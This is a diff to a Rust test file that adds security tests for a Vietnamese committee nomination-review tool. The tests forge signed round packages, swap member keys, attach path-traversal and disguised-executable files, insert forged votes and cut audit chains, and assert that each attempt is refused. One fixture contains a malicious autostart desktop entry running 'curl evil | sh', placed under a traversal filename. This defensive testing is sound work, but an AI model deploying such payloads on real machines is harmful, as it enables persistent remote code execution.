@@ -42,6 +42,8 @@ struct Committee {
     round: String,
     /// Nomination ids by the names in [`PEOPLE`].
     ids: Vec<String>,
+    /// The fingerprint of the secretariat's key, as the secretary reads it to each member.
+    fp: String,
 }
 
 impl Committee {
@@ -177,6 +179,20 @@ fn committee() -> Committee {
                 .to_string()
         })
         .collect();
+    let card = dir.path().join("the-thu-ky.json");
+    let fp = json(
+        &sec,
+        &[
+            "reviewer",
+            "card",
+            "--out",
+            card.to_str().unwrap(),
+            "--json",
+        ],
+    )["fingerprint"]
+        .as_str()
+        .unwrap()
+        .to_string();
     let names = ["Đặng Quốc Bảo", "Huỳnh Thị Mai", "Bùi Đức Thắng"];
     let mut members = Vec::new();
     for (i, name) in names.iter().enumerate() {
@@ -212,8 +228,16 @@ fn committee() -> Committee {
     for db in &members {
         let r = json(
             db,
-            &["round", "import", package.to_str().unwrap(), "--json"],
+            &[
+                "round",
+                "import",
+                package.to_str().unwrap(),
+                "--trust-secretariat",
+                &fp,
+                "--json",
+            ],
         );
+        assert_eq!(r["secretariat_fingerprint"], fp.as_str(), "{r}");
         assert_eq!(r["nominations"]["imported"], 4, "{r}");
         assert_eq!(r["members"], 4, "{r}");
     }
@@ -223,6 +247,7 @@ fn committee() -> Committee {
         members,
         round,
         ids,
+        fp,
     }
 }
 
@@ -352,7 +377,16 @@ fn a_packet_from_someone_not_registered_is_rejected() {
             "Không rõ",
         ],
     );
-    ok(&stranger, &["round", "import", &c.s("dot-xet.xkdx")]);
+    ok(
+        &stranger,
+        &[
+            "round",
+            "import",
+            &c.s("dot-xet.xkdx"),
+            "--trust-secretariat",
+            &c.fp,
+        ],
+    );
     ok(&stranger, &["review", &c.ids[0], "--vote", "approve"]);
     let p = c.s("nguoi-la.xkgp");
     ok(
@@ -779,4 +813,460 @@ fn evidence_the_secretariat_attached_travels_with_the_round_and_opens_on_a_membe
     std::fs::write(&f, forged).unwrap();
     let (err, _) = refused(&c.members[1], &["round", "import", &f]);
     assert!(err.contains("chữ ký của gói không đúng"), "{err}");
+}
+
+// Attacks on the committee's trust, each building its attack file the way an attacker would:
+// from a genuine file, re-signed with a key of their own or, where the attack needs the
+// secretariat's signature (a stolen key), with the secretariat's key read from its store.
+
+/// A round package file: its body as JSON, and the file re-signed by `key` after `change`.
+fn resign(
+    package: &Path,
+    key: &xetkhen_core::MemberKey,
+    change: impl FnOnce(&mut Value),
+) -> String {
+    let file: Value = serde_json::from_slice(&std::fs::read(package).unwrap()).unwrap();
+    let mut body: Value = serde_json::from_str(file["body"].as_str().unwrap()).unwrap();
+    change(&mut body);
+    let text = serde_json::to_string(&body).unwrap();
+    serde_json::json!({
+        "format": file["format"],
+        "signature": key.sign_hex(text.as_bytes()),
+        "body": text,
+    })
+    .to_string()
+}
+
+/// The secretariat's own secret key, read from its (unencrypted test) store.
+fn secretariat_key(c: &Committee) -> xetkhen_core::MemberKey {
+    let conn = rusqlite::Connection::open(&c.sec).unwrap();
+    let secret: Vec<u8> = conn
+        .query_row(
+            "SELECT k.secret_key FROM member_key k JOIN reviewers r ON r.id = k.reviewer_id WHERE r.is_self = 1",
+            [],
+            |r| r.get(0),
+        )
+        .unwrap();
+    xetkhen_core::MemberKey::from_secret(&secret.try_into().unwrap())
+}
+
+/// The public key a store holds for a member, by name.
+fn known_key(db: &Path, name: &str) -> Option<String> {
+    use rusqlite::OptionalExtension;
+    let conn = rusqlite::Connection::open(db).unwrap();
+    conn.query_row(
+        "SELECT public_key FROM reviewers WHERE name = ?1",
+        [name],
+        |r| r.get::<_, Option<String>>(0),
+    )
+    .optional()
+    .unwrap()
+    .flatten()
+}
+
+#[test]
+fn a_forged_round_package_signed_by_an_unregistered_key_that_adds_a_secretary_and_replaces_a_members_key_is_refused(
+) {
+    let c = committee();
+    let attacker = xetkhen_core::MemberKey::from_secret(&[66; 32]);
+    let victim = "Huỳnh Thị Mai";
+    let victim_key = known_key(&c.members[0], victim).unwrap();
+    let forged = resign(&c.file("dot-xet.xkdx"), &attacker, |b| {
+        let members = b["members"].as_array_mut().unwrap();
+        for m in members.iter_mut() {
+            if m["name"] == victim {
+                m["public_key"] = attacker.public_hex().into();
+            }
+        }
+        // A "secretary" nobody registered, whose key signs the package.
+        members.push(serde_json::json!({
+            "format": "xetkhen-the-thanh-vien/1", "id": "ke-gia-mao", "name": "Thư Ký Giả",
+            "position": "Thư ký Hội đồng", "role": "secretary", "conflicts": [],
+            "public_key": attacker.public_hex(),
+        }));
+        b["signed_by"] = "ke-gia-mao".into();
+        b["nominations"][0]["name"] = "Người Được Cài".into();
+    });
+    let f = c.s("dot-xet-gia.xkdx");
+    std::fs::write(&f, &forged).unwrap();
+    let fake_fp = xetkhen_core::packet::key_fingerprint(&attacker.public_hex()).unwrap();
+    let rows_before = json(&c.members[0], &["list", "--round", &c.round, "--json"]);
+
+    // On a member's laptop that trusts the secretariat: refused, even when the member is talked
+    // into typing the attacker's fingerprint, and even when asked to replace the secretariat's
+    // key (the package would still change a known member's key).
+    let (err, _) = refused(&c.members[0], &["round", "import", &f]);
+    assert!(err.contains("không phải khóa của ban thư ký"), "{err}");
+    assert!(
+        err.contains(&fake_fp),
+        "the fingerprint to compare is shown: {err}"
+    );
+    let (err, _) = refused(
+        &c.members[0],
+        &["round", "import", &f, "--trust-secretariat", &fake_fp],
+    );
+    assert!(err.contains("không phải khóa của ban thư ký"), "{err}");
+    let (err, _) = refused(
+        &c.members[0],
+        &[
+            "round",
+            "import",
+            &f,
+            "--trust-secretariat",
+            &fake_fp,
+            "--replace-secretariat",
+        ],
+    );
+    assert!(
+        err.contains("thay khóa của") || err.contains("gán khóa"),
+        "{err}"
+    );
+    assert_eq!(known_key(&c.members[0], victim).unwrap(), victim_key);
+    assert_eq!(known_key(&c.members[0], "Thư Ký Giả"), None);
+    assert_eq!(
+        json(&c.members[0], &["list", "--round", &c.round, "--json"]),
+        rows_before
+    );
+    assert_eq!(
+        json(&c.members[0], &["secretariat", "show", "--json"])["fingerprint"],
+        c.fp.as_str()
+    );
+
+    // On the secretariat's laptop, which handed the round out: refused whatever is confirmed.
+    let (err, _) = refused(
+        &c.sec,
+        &["round", "import", &f, "--trust-secretariat", &fake_fp],
+    );
+    assert!(err.contains("đã phát gói"), "{err}");
+    assert!(known_key(&c.sec, "Thư Ký Giả").is_none());
+
+    // On a new laptop, nothing is taken without the fingerprint confirmed, and the attacker's
+    // fingerprint is not the secretariat's.
+    let fresh = c.file("may-moi.db");
+    let (err, _) = refused(&fresh, &["round", "import", &f]);
+    assert!(err.contains("chưa tin cậy khóa của ban thư ký"), "{err}");
+    let (err, _) = refused(
+        &fresh,
+        &["round", "import", &f, "--trust-secretariat", &c.fp],
+    );
+    assert!(err.contains("không khớp"), "{err}");
+    assert!(json(&fresh, &["round", "list", "--json"])
+        .as_array()
+        .unwrap()
+        .is_empty());
+
+    // A package re-signed by the attacker under the genuine secretary's card fails the signature.
+    let stolen_name = resign(&c.file("dot-xet.xkdx"), &attacker, |_| {});
+    let g = c.s("dot-xet-ky-lai.xkdx");
+    std::fs::write(&g, stolen_name).unwrap();
+    let (err, _) = refused(&c.members[1], &["round", "import", &g]);
+    assert!(err.contains("chữ ký của gói không đúng"), "{err}");
+    ok(&c.members[0], &["audit", "verify"]);
+}
+
+#[test]
+fn the_secretariat_key_is_trusted_from_its_card_and_replaced_only_as_an_audited_act() {
+    let c = committee();
+    let fresh = c.file("may-moi.db");
+    ok(
+        &fresh,
+        &[
+            "reviewer",
+            "set",
+            "--name",
+            "Trương Văn Mới",
+            "--position",
+            "Ủy viên",
+        ],
+    );
+    let card = c.s("the-thu-ky.json");
+    let wrong = xetkhen_core::packet::key_fingerprint(&"ab".repeat(32)).unwrap();
+    let (err, _) = refused(&fresh, &["secretariat", "trust", &wrong, "--card", &card]);
+    assert!(err.contains("không khớp"), "{err}");
+    let v = json(
+        &fresh,
+        &[
+            "secretariat",
+            "trust",
+            &c.fp.to_lowercase(),
+            "--card",
+            &card,
+            "--json",
+        ],
+    );
+    assert_eq!(v["name"], "Võ Thị Thư");
+    ok(&fresh, &["round", "import", &c.s("dot-xet.xkdx")]);
+
+    // A new key for the secretariat (a new laptop) is refused until the member replaces it.
+    let other = c.file("ban-thu-ky-moi.db");
+    ok(
+        &other,
+        &[
+            "reviewer",
+            "set",
+            "--name",
+            "Võ Thị Thư",
+            "--position",
+            "Thư ký Hội đồng",
+            "--role",
+            "secretary",
+        ],
+    );
+    let new_card = c.s("the-thu-ky-moi.json");
+    let new_fp = json(&other, &["reviewer", "card", "--out", &new_card, "--json"])["fingerprint"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    let (err, _) = refused(
+        &fresh,
+        &["secretariat", "trust", &new_fp, "--card", &new_card],
+    );
+    assert!(err.contains("--replace"), "{err}");
+    ok(
+        &fresh,
+        &[
+            "secretariat",
+            "trust",
+            &new_fp,
+            "--card",
+            &new_card,
+            "--replace",
+        ],
+    );
+    let conn = rusqlite::Connection::open(&fresh).unwrap();
+    let actions: Vec<String> = conn
+        .prepare("SELECT action FROM audit_log WHERE entity = 'secretariat' ORDER BY seq")
+        .unwrap()
+        .query_map([], |r| r.get(0))
+        .unwrap()
+        .map(Result::unwrap)
+        .collect();
+    assert_eq!(actions, ["secretariat.trust", "secretariat.replace"]);
+    drop(conn);
+    // The old secretariat's packages are no longer taken.
+    let (err, _) = refused(&fresh, &["round", "import", &c.s("dot-xet.xkdx")]);
+    assert!(err.contains("không phải khóa của ban thư ký"), "{err}");
+    ok(&fresh, &["audit", "verify"]);
+}
+
+/// A package with one file attached to the first nomination, signed with the secretariat's
+/// (stolen) key: the attacker controls the name, the declared media type and the bytes.
+fn package_with_file(c: &Committee, name: &str, media_type: &str, data: &[u8]) -> String {
+    use base64::Engine;
+    let key = secretariat_key(c);
+    let id = c.ids[0].clone();
+    let forged = resign(&c.file("dot-xet.xkdx"), &key, |b| {
+        b["files"] = serde_json::json!([{
+            "nomination_id": id,
+            "attachment": {
+                "sha256": xetkhen_core::audit::sha256_hex(data),
+                "file_name": name,
+                "media_type": media_type,
+                "size": data.len(),
+                "added_at": "2026-11-27T08:00:00Z",
+            },
+            "data": base64::engine::general_purpose::STANDARD.encode(data),
+        }]);
+    });
+    let f = c.s(&format!("goi-tep-{}.xkdx", data.len()));
+    std::fs::write(&f, forged).unwrap();
+    f
+}
+
+#[test]
+fn an_attachment_named_to_climb_into_autostart_is_refused_when_the_package_is_taken_in() {
+    let c = committee();
+    let desktop = b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil | sh'\n";
+    let f = package_with_file(
+        &c,
+        "../../../.config/autostart/x.desktop",
+        "application/pdf",
+        desktop,
+    );
+    let (err, _) = refused(&c.members[0], &["round", "import", &f]);
+    assert!(err.contains("x.desktop"), "the file is named: {err}");
+    assert!(err.contains("chỉ nhận minh chứng"), "{err}");
+    let shown = json(&c.members[0], &["show", &c.ids[0], "--json"]);
+    assert!(
+        shown["shared_evidence"].as_array().unwrap().is_empty(),
+        "{shown}"
+    );
+
+    // A real PDF under a climbing name keeps only its last component.
+    let pdf = b"%PDF-1.4\n% bao cao\n%%EOF\n";
+    let f = package_with_file(
+        &c,
+        "..\\..\\..\\Startup\\bao-cao.pdf",
+        "application/pdf",
+        pdf,
+    );
+    let r = json(&c.members[0], &["round", "import", &f, "--json"]);
+    assert_eq!(r["files"], 1, "{r}");
+    let shown = json(&c.members[0], &["show", &c.ids[0], "--json"]);
+    assert_eq!(
+        shown["shared_evidence"][0]["file_name"], "bao-cao.pdf",
+        "{shown}"
+    );
+    ok(&c.members[0], &["audit", "verify"]);
+}
+
+#[test]
+fn an_executable_declared_as_a_pdf_is_refused_on_attach_and_when_the_package_is_taken_in() {
+    let c = committee();
+    let exe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff";
+    let f = package_with_file(&c, "x.exe", "application/pdf", exe);
+    let (err, _) = refused(&c.members[1], &["round", "import", &f]);
+    assert!(err.contains("«x.exe»"), "{err}");
+    // Renamed .pdf, its content gives it away.
+    let f = package_with_file(&c, "x.pdf", "application/pdf", &exe[..10]);
+    let (err, _) = refused(&c.members[1], &["round", "import", &f]);
+    assert!(
+        err.contains("«x.pdf»") && err.contains("nội dung không phải tệp pdf"),
+        "{err}"
+    );
+    // A device name Windows reserves.
+    let f = package_with_file(&c, "CON.pdf", "application/pdf", b"%PDF-1.4\n%%EOF\n");
+    let (err, _) = refused(&c.members[1], &["round", "import", &f]);
+    assert!(err.contains("CON.pdf"), "{err}");
+
+    // On attach, on the member's own laptop.
+    let local = c.file("x.exe");
+    std::fs::write(&local, exe).unwrap();
+    let (err, _) = refused(
+        &c.members[1],
+        &["review", &c.ids[0], "--attach", local.to_str().unwrap()],
+    );
+    assert!(err.contains("x.exe"), "{err}");
+    let disguised = c.file("bao-cao.pdf");
+    std::fs::write(&disguised, exe).unwrap();
+    let (err, _) = refused(
+        &c.members[1],
+        &["review", &c.ids[0], "--attach", disguised.to_str().unwrap()],
+    );
+    assert!(err.contains("nội dung không phải tệp pdf"), "{err}");
+}
+
+#[test]
+fn a_vote_recorded_with_reviewer_naming_another_member_does_not_count() {
+    let c = committee();
+    let other = "Đặng Quốc Bảo";
+    let (err, _) = refused(
+        &c.sec,
+        &[
+            "review",
+            &c.ids[0],
+            "--reviewer",
+            other,
+            "--vote",
+            "approve",
+        ],
+    );
+    assert!(err.contains("không phải thành viên của máy này"), "{err}");
+
+    // An older version did record it: a review written on the secretariat's laptop in the
+    // member's name, with no packet behind it. The secretary votes, and the same row is copied
+    // under each member's id, as that version wrote it.
+    ok(
+        &c.sec,
+        &["review", &c.ids[0], "--vote", "approve", "--score", "8"],
+    );
+    let conn = rusqlite::Connection::open(&c.sec).unwrap();
+    conn.execute(
+        "INSERT INTO reviews (nomination_id, reviewer_id, body_json, complete, needs_evidence, updated_at)
+         SELECT r.nomination_id, m.id, r.body_json, r.complete, r.needs_evidence, r.updated_at
+         FROM reviews r JOIN reviewers s ON s.id = r.reviewer_id AND s.is_self = 1,
+              reviewers m WHERE m.is_self = 0",
+        [],
+    )
+    .unwrap();
+    drop(conn);
+    let t = c.tally(&c.sec);
+    let b = ballots(&t, &c.ids[0]);
+    assert!(
+        b.contains(&("Võ Thị Thư".into(), "approve".into())),
+        "{b:?}"
+    );
+    assert!(b.contains(&(other.into(), "not-voted".into())), "{b:?}");
+    assert_eq!(
+        decision(&t, &c.ids[0]),
+        "pending",
+        "one signed-for vote of four"
+    );
+    let csv = c.s("da-thong-qua.csv");
+    let (err, _) = refused(
+        &c.sec,
+        &[
+            "export",
+            "--round",
+            &c.round,
+            "--award",
+            "bang-khen",
+            "--filter",
+            "approved",
+            "--out",
+            &csv,
+        ],
+    );
+    assert!(err.contains("chưa thông qua hồ sơ nào"), "{err}");
+
+    // The member's signed packet counts, and replaces the unsigned row.
+    c.vote(0, 0, "reject");
+    let p = c.packet(0, "goi.xkgp");
+    ok(&c.sec, &["packet", "import", &p]);
+    let b = ballots(&c.tally(&c.sec), &c.ids[0]);
+    assert!(b.contains(&(other.into(), "reject".into())), "{b:?}");
+}
+
+#[test]
+fn an_audit_chain_cut_after_a_packet_left_the_laptop_is_caught_against_the_packet() {
+    let c = committee();
+    c.vote(0, 0, "approve");
+    let p = c.packet(0, "goi.xkgp");
+    let head = serde_json::from_str::<Value>(
+        serde_json::from_str::<Value>(&std::fs::read_to_string(&p).unwrap()).unwrap()["body"]
+            .as_str()
+            .unwrap(),
+    )
+    .unwrap()["audit_head"]
+        .clone();
+    let seq = head["seq"]
+        .as_i64()
+        .expect("the packet carries the head of the chain");
+    let r = json(
+        &c.members[0],
+        &["audit", "verify", "--against", &p, "--json"],
+    );
+    assert_eq!(r["against"][0]["status"], "held", "{r}");
+    // The round package carries the secretariat's head; on a member's laptop it is not theirs.
+    let r = json(
+        &c.members[0],
+        &[
+            "audit",
+            "verify",
+            "--against",
+            &c.s("dot-xet.xkdx"),
+            "--json",
+        ],
+    );
+    assert_eq!(r["against"][0]["status"], "not_from_here", "{r}");
+    let r = json(
+        &c.sec,
+        &[
+            "audit",
+            "verify",
+            "--against",
+            &c.s("dot-xet.xkdx"),
+            "--json",
+        ],
+    );
+    assert_eq!(r["against"][0]["status"], "held", "{r}");
+
+    // The member's chain is cut back to before the vote: by itself, a shorter chain still links.
+    let conn = rusqlite::Connection::open(&c.members[0]).unwrap();
+    conn.execute("DELETE FROM audit_log WHERE seq >= ?1", [seq - 3])
+        .unwrap();
+    drop(conn);
+    let (err, out) = refused(&c.members[0], &["audit", "verify", "--against", &p]);
+    assert!(err.contains("goi.xkgp"), "{err}");
+    assert!(out.contains(&format!("mục số {seq}")), "{out}");
 }
